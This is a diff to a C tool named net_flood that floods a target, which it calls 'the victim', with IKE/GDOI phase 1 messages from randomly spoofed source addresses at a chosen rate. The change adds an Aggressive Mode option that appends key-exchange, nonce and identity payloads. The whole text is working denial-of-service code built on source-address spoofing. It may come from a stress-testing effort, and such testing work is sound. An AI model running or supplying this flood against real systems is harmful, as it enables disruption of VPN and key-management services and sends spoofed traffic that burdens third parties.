@@ -1,11 +1,12 @@
-/* First messages of Main Mode under borrowed addresses, as fast as asked: each
+/* First messages of phase 1 under borrowed addresses, as fast as asked: each
  * from a random source in 10.128.0.0/9 with a random cookie.
  *
  *   net_flood -d ADDRESS -r PACKETS-PER-SECOND -t SECONDS [-H HASH] [-g GROUP]
- *	[-v]
+ *	[-a] [-v]
  *
- * HASH and GROUP are the wire's numbers of an offer that the victim takes; -v
- * makes every offer a different one.  Prints how many it sent, and how fast. */
+ * HASH and GROUP are the wire's numbers of an offer that the victim takes; -a
+ * asks for Aggressive Mode (group 5), -v makes every offer a different one.
+ *Prints how many it sent, and how fast. */
 #include "base/rd.h"
 #include "base/wr.h"
 #include <arpa/inet.h>
@@ -19,17 +20,23 @@
 #include <sys/socket.h>
 #include <time.h>
 
-#define BATCH       64
-#define HEADERS     (sizeof(struct iphdr) + sizeof(struct udphdr))
-#define MESSAGE_MAX 256
-#define GDOI_PORT   848
-#define SOURCES     0x0a800000u
-#define SOURCE_MASK 0x007fffffu
+#define BATCH         64
+#define HEADERS       (sizeof(struct iphdr) + sizeof(struct udphdr))
+#define MESSAGE_MAX   512
+#define NEXT_SA       1
+#define NEXT_KE       4
+#define NEXT_ID       5
+#define NEXT_NONCE    10
+#define SA_BYTES      (4 + 8 + 8 + 8 + 5 * 4 + 4 + 8)
+#define GROUP_5_BYTES 192
+#define GDOI_PORT     848
+#define SOURCES       0x0a800000u
+#define SOURCE_MASK   0x007fffffu
 
 struct flood {
 	in_addr_t to;
 	unsigned rate, secs, hash, group;
-	bool vary;
+	bool vary, aggressive;
 	uint64_t random;
 	size_t message_n, life_at;
 	uint8_t message[MESSAGE_MAX];
@@ -54,19 +61,42 @@ static void attr(struct wr *w, uint16_t type, uint16_t value)
 	wr_u16(w, value);
 }
 
+static void payload(struct wr *w, uint8_t next, size_t n)
+{
+	wr_u8(w, next);
+	wr_u8(w, 0);
+	wr_u16(w, (uint16_t)(n + 4));
+	for (size_t i = 0; i < n; i++)
+		wr_u8(w, 0x55);
+}
+
+/* A public value, a nonce, and an identity of type FQDN. */
+static void rest_put(struct wr *w)
+{
+	payload(w, NEXT_NONCE, GROUP_5_BYTES);
+	payload(w, NEXT_ID, 20);
+	payload(w, 0, 0);
+	w->len -= 2;
+	wr_u16(w, 4 + 4 + 3);
+	wr_u32(w, 2u << 24);
+	wr_bytes(w, "gm1", 3);
+}
+
 /* Header, SA with one transform: AES-128 and a pre-shared key. */
 static void message_make(struct flood *f)
 {
 	struct wr w = wr_init(f->message, sizeof(f->message));
 
 	wr_zero(&w, 16); /* cookies */
-	wr_u8(&w, 1);    /* SA */
+	wr_u8(&w, NEXT_SA);
 	wr_u8(&w, 0x10);
-	wr_u8(&w, 2); /* Main Mode */
+	wr_u8(&w, f->aggressive ? 4 : 2);
 	wr_zero(&w, 5);
-	wr_u32(&w, 28 + 4 + 8 + 8 + 8 + 5 * 4 + 4 + 8);
-	wr_u16(&w, 0);
-	wr_u16(&w, 4 + 8 + 8 + 8 + 5 * 4 + 4 + 8);
+	size_t length_at = w.len;
+
+	wr_u32(&w, 0);
+	wr_u16(&w, f->aggressive ? NEXT_KE << 8 : 0);
+	wr_u16(&w, SA_BYTES);
 	wr_u32(&w, 2); /* DOI GDOI, no situation */
 	wr_u32(&w, 0);
 	wr_u16(&w, 0);
@@ -85,7 +115,11 @@ static void message_make(struct flood *f)
 	wr_u16(&w, 4);
 	f->life_at = w.len;
 	wr_u32(&w, 86400);
+	if (f->aggressive)
+		rest_put(&w);
 	f->message_n = w.len;
+	w.len = length_at;
+	wr_u32(&w, (uint32_t)f->message_n);
 }
 
 static void packet_make(struct flood *f, unsigned i)
@@ -170,7 +204,7 @@ static int run(struct flood *f, int fd)
 static int usage(void)
 {
 	fputs("usage: net_flood -d ADDRESS -r RATE -t SECONDS [-H HASH] "
-	      "[-g GROUP] [-v]\n",
+	      "[-g GROUP] [-a] [-v]\n",
 		stderr);
 	return 2;
 }
@@ -180,7 +214,7 @@ int main(int argc, char **argv)
 	static struct flood f = { .hash = 4, .group = 14 };
 	int c;
 
-	while ((c = getopt(argc, argv, "d:r:t:H:g:v")) != -1) {
+	while ((c = getopt(argc, argv, "d:r:t:H:g:av")) != -1) {
 		switch (c) {
 		case 'd':
 			f.to = inet_addr(optarg);
@@ -196,6 +230,9 @@ int main(int argc, char **argv)
 			break;
 		case 'g':
 			f.group = (unsigned)atoi(optarg);
+			break;
+		case 'a':
+			f.aggressive = true;
 			break;
 		case 'v':
 			f.vary = true;
